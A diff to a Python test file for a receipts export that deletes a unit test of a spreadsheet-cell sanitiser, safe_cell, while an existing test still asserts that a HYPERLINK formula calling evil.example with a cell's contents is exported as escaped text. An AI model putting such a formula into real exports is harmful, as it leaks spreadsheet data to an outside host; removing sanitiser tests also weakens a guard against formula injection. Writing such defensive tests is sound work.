@@ -13,7 +13,7 @@ from receco_verify import orf as orf_file
 from receco_verify.keys import load_jwks
 from receco_verify.receipt import verify_bundle
 
-from locker.export import MAX_BYTES, MAX_RECEIPTS, safe_cell
+from locker.export import MAX_BYTES, MAX_RECEIPTS
 from receipts.refunds import refund, validate_refund
 from tests.bench.conftest import run_script
 from tests.ledger.conftest import append
@@ -148,25 +148,6 @@ def test_cells_a_spreadsheet_would_run_as_formulas_are_made_text(client, shop_re
     assert row[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     # The file name holds the shop's name in ASCII letters, digits and dashes only.
     assert row[-1] == "receipts/2026-11-22-hyperlinkhttpevilexamplexa1click-FORM01.orf.json"
-
-
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        ("=1+1", "'=1+1"),
-        ("+2348031234567", "'+2348031234567"),
-        ("-5", "'-5"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tx", "'\tx"),
-        ("\rx", "'\rx"),
-        ("Mama Put", "Mama Put"),
-        ("₦1,300.00", "₦1,300.00"),
-        (130000, 130000),
-        ("", ""),
-    ],
-)
-def test_safe_cell(value, expected):
-    assert safe_cell(value) == expected
 
 
 @pytest.mark.django_db(False)
